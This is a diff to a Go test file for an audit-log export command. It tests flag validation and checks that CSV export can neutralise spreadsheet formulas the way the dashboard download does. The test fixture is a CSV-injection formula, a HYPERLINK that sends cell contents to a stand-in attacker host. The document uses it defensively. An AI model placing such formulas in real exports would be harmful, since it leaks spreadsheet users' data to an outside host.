@@ -6,6 +6,9 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"fmt"
+	"io"
+	"net/http"
+	"net/url"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -240,6 +243,42 @@ func TestAuditExportRejectsBadFlags(t *testing.T) {
 	wantFailure(t, s.run("", "audit", "export", "--format", "xml"), 2, `--format "xml" is not supported: use jsonl or csv`)
 	wantFailure(t, s.run("", "audit", "export", "--since", "yesterday"), 2, `--since "yesterday" is not a time: use RFC 3339`)
 	wantFailure(t, s.run("", "audit", "export", "--since", "2025-02-01", "--until", "2025-01-01"), 2, "is not before --until")
+	wantFailure(t, s.run("", "audit", "export", "--format", "csv", "--csv-formulas", "escape"), 2, `--csv-formulas "escape" is not supported: use keep or neutralise`)
+	wantFailure(t, s.run("", "audit", "export", "--csv-formulas", "neutralise"), 2, "this export is JSON lines: add --format csv")
+}
+
+// An actor is whatever the user configured, so it may be a spreadsheet
+// formula: the export keeps it byte for byte unless asked, and asked, writes
+// what the dashboard's download does.
+func TestAuditExportKeepsFormulasUnlessAskedAsTheDashboardDoes(t *testing.T) {
+	const hyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	s := newSession(t)
+	s.mustRun(auditCanary, "--actor", hyperlink, "secret", "add", "--yes", "--project", "app", "--name", "K")
+	s.mustRun(testPassword, "user", "add", "--email", "v@example.com", "--role", "viewer")
+
+	exact := s.mustRun("", "audit", "export", "--format", "csv", "--actor", hyperlink).stdout
+	if events := parseCSV(t, exact); len(events) != 1 || events[0].Actor != hyperlink {
+		t.Fatalf("default CSV export does not hold the exact actor:\n%s", exact)
+	}
+	if cell := `,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`; !strings.Contains(exact, cell) {
+		t.Fatalf("default CSV export lacks %s:\n%s", cell, exact)
+	}
+
+	neutralised := s.mustRun("", "audit", "export", "--format", "csv", "--csv-formulas", "neutralise", "--actor", hyperlink).stdout
+	if events := parseCSV(t, neutralised); len(events) != 1 || events[0].Actor != "'"+hyperlink {
+		t.Fatalf("neutralised CSV export:\n%s", neutralised)
+	}
+	rs := s.startServe()
+	res := rs.post(rs.signedIn("v@example.com"), "/audit/export", url.Values{"format": {"csv"}, "actor": {hyperlink}})
+	download, err := io.ReadAll(res.Body)
+	res.Body.Close()
+	if err != nil || res.StatusCode != http.StatusOK {
+		t.Fatalf("dashboard download: %d %v\n%s", res.StatusCode, err, download)
+	}
+	rs.stop()
+	if string(download) != neutralised {
+		t.Fatalf("the dashboard's CSV download differs from --csv-formulas neutralise:\ndashboard:\n%s\ncli:\n%s", download, neutralised)
+	}
 }
 
 // forge runs SQL with the append-only triggers off, as a superuser with
